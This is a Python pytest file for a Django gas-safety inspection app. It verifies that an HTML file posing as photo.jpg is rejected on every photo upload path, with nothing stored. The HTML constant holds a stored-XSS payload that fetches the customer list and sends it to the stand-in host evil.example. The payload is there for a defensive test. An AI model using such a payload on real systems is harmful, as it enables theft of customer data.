"""An HTML page named photo.jpg and declared image/jpeg is refused wherever a photo is taken — the phone pages
(inspection, rectification, verification, delivery check), the API (inspection photos, submit, verify, delivery)
and the services themselves — with a Chinese message naming the field and the file; nothing is stored: no photo
row, no file in the media folder, the ledger as it was."""
import json
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from gasguard.cylinders import services as cylinder_services
from gasguard.cylinders.models import Delivery
from gasguard.cylinders.tests import helpers as cylinders
from gasguard.hazards import services as hazard_services
from gasguard.inspections import services as inspection_services
from gasguard.inspections.models import Inspection, Photo
from gasguard.testing import (
    HOSE,
    answer_all,
    api_client,
    inspect,
    item_answers,
    nothing_changes,
    register_hazard,
    submit_for_verification,
)

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><body><script>fetch('/api/v1/cylinders/customers/').then(r => r.text())" \
       b".then(t => new Image().src = 'https://evil.example/?' + t)</script></body></html>"
REFUSED = "不是可识别的图片"


def html_photo():
    return SimpleUploadedFile("photo.jpg", HTML, content_type="image/jpeg")


def stored_files() -> list:
    return sorted(p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file())


class Refused:
    """The block answers a refusal and leaves the ledger, the photos and the media folder as they were."""

    def __init__(self, hazard=None):
        self.hazard = hazard

    def __enter__(self):
        self.photos, self.files = Photo.objects.count(), stored_files()
        self.unchanged = nothing_changes(self.hazard)
        self.unchanged.__enter__()
        return self

    def __exit__(self, *exc):
        if exc[0] is None:
            self.unchanged.__exit__(None, None, None)
            assert Photo.objects.count() == self.photos
            assert stored_files() == self.files
        return False


@pytest.fixture
def rectifying(personas):
    hazard = register_hazard(personas.site_a, personas.inspector)
    return hazard_services.start_rectification(hazard, by=personas.enterprise)


@pytest.fixture
def submitted(personas, rectifying):
    return submit_for_verification(rectifying, personas.enterprise)


@pytest.fixture
def sale(personas):
    gas = cylinders.gas_company("滨海燃气有限公司")
    cyl = cylinders.cylinder(gas)
    cylinders.fill(gas, cyl)
    return gas, cylinders.sell(gas, cylinders.business(gas, personas.site_a), [cyl])


def said(response) -> str:
    return response.content.decode()


# The pages.

def test_the_inspection_page_refuses_it_for_the_whole_inspection_and_for_an_item(client, personas):
    client.force_login(personas.inspector)
    site = personas.site_a
    form = {"signature": personas.inspector.display_name, "responsible_person": "王整改"}
    for a in answer_all(site):
        form[f"result_{a['item']}"] = a["result"]
        if "measured_value" in a:
            form[f"value_{a['item']}"] = a["measured_value"]
    for field in ("photos", f"photos_{HOSE}"):
        with Refused():
            response = client.post(f"/sites/{site.pk}/inspect/", {**form, field: html_photo()})
        assert response.status_code == 400
        assert "photo.jpg" in said(response) and REFUSED in said(response)
        assert ("现场照片" if field == "photos" else f"检查项“{HOSE}”的照片") in said(response)
    assert not Inspection.objects.exists()


def test_the_hazard_page_refuses_it_at_submission_and_at_verification(client, personas, rectifying):
    client.force_login(personas.enterprise)
    with Refused(rectifying):
        response = client.post(f"/hazards/{rectifying.pk}/submit/", {"note": "已整改", "photos": html_photo()})
    assert response.status_code == 400 and "整改后照片“photo.jpg”" in said(response) and REFUSED in said(response)
    submitted = submit_for_verification(rectifying, personas.enterprise)
    client.force_login(personas.street_a)
    with Refused(submitted):
        response = client.post(f"/hazards/{submitted.pk}/verify_pass/", {"note": "合格", "photos": html_photo()})
    assert response.status_code == 400 and "现场照片“photo.jpg”" in said(response)


def test_the_delivery_page_refuses_it(client, sale):
    gas, sold = sale
    client.force_login(gas.user)
    with Refused():
        response = client.post(f"/cylinders/sales/{sold.pk}/deliver/",
                               {**cylinders.all_pass(hose_length_m="2.6"), "acknowledged_by": "王整改",
                                "photos": html_photo()})
    assert response.status_code == 400 and "现场照片“photo.jpg”" in said(response) and REFUSED in said(response)
    assert not Delivery.objects.exists()


# The API.

def test_the_api_refuses_it_for_an_inspection_a_submission_a_verification_and_a_delivery(personas, submitted,
                                                                                          sale):
    inspection, _ = inspect(personas.site_a, personas.inspector)
    with Refused():
        response = api_client(personas.inspector).post(f"/api/v1/inspections/{inspection.pk}/photos/",
                                                       {"photos": [html_photo()]}, format="multipart")
    assert response.status_code == 400 and REFUSED in response.json()["photos"][0]
    assert "photo.jpg" in response.json()["photos"][0]

    with Refused(submitted):
        response = api_client(personas.street_a).post(f"/api/v1/hazards/{submitted.pk}/verify/",
                                                      {"passed": True, "note": "合格", "photos": [html_photo()]},
                                                      format="multipart")
    assert response.status_code == 400 and REFUSED in response.json()["photos"][0]

    again = hazard_services.verify(submitted, by=personas.street_a, passed=False, note="复查不合格")
    with Refused(again):
        response = api_client(personas.enterprise).post(f"/api/v1/hazards/{again.pk}/submit/",
                                                        {"note": "已整改", "photos": [html_photo()]},
                                                        format="multipart")
    assert response.status_code == 400 and REFUSED in response.json()["photos"][0]

    gas, sold = sale
    with Refused():
        response = api_client(gas.user).post(f"/api/v1/cylinders/sales/{sold.pk}/delivery/", {
            "answers": json.dumps(cylinders.all_pass(detector="fail")), "acknowledged_by": "王整改",
            "photos": [html_photo()]}, format="multipart")
    assert response.status_code == 400 and REFUSED in response.json()["photos"][0]
    assert not Delivery.objects.exists()


# The services (what every page and the API call).

def test_the_services_refuse_it(personas, submitted, sale):
    def refused(call, hazard=None):
        with Refused(hazard), pytest.raises(ValidationError) as caught:
            call()
        text = " ".join(m for ms in caught.value.message_dict.values() for m in ms)
        assert "photo.jpg" in text and REFUSED in text
        return caught.value.message_dict

    inspection, _ = inspect(personas.site_a, personas.inspector)
    errors = refused(lambda: inspection_services.add_photos(inspection, by=personas.inspector,
                                                            photos=[html_photo()]))
    assert list(errors) == ["photos"]
    refused(lambda: hazard_services.attach_photo(html_photo(), by=personas.inspector, inspection=inspection))
    answers = item_answers(personas.site_a)
    answers[0].photos = [html_photo()]
    errors = refused(lambda: inspection_services.record_inspection(
        site=personas.site_a, by=personas.inspector, answers=answers, signature=personas.inspector.display_name,
        photos=[html_photo()]))
    assert set(errors) == {"photos", "items[0]"}
    refused(lambda: hazard_services.verify(submitted, by=personas.street_a, passed=True, photos=[html_photo()]),
            submitted)
    gas, sold = sale
    refused(lambda: cylinder_services.deliver(sale=sold, answers=cylinders.all_pass(), acknowledged_by="王整改",
                                              by=gas.user, photos=[html_photo()]))


def test_one_bad_file_among_good_ones_stores_none_of_them(personas, rectifying):
    from gasguard.testing import png_upload

    with Refused(rectifying), pytest.raises(ValidationError) as caught:
        hazard_services.submit(rectifying, by=personas.enterprise, note="已整改",
                               photos=[png_upload("before.png"), html_photo(), png_upload("after.png")])
    assert caught.value.message_dict["photos"] == [
        "整改后照片“photo.jpg”不是可识别的图片，请上传 JPEG、PNG、WebP 或 GIF 格式的照片"]
